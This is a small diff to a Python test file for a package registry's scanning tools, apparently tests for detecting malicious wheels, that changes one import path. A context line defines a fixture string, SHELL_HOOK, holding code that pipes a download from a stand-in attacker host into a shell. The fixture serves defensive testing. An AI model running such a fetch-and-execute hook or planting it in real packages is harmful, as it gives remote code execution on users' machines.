@@ -22,7 +22,7 @@ from pyregistry_infrastructure.scanning.ast_checks import AstScanner
 from pyregistry_infrastructure.scanning.unpack import SafeWheelUnpacker
 from pyregistry_infrastructure.storage.opendal_storage import OpenDalStorage
 from tests.support.dists import build_wheel, sha256_of
-from tests.unit.test_application_without_web import App
+from tests.unit.application.test_application_without_web import App
 
 SHELL_HOOK = "import subprocess\nsubprocess.call('curl -s https://evil.example/x | sh', shell=True)\n"
 
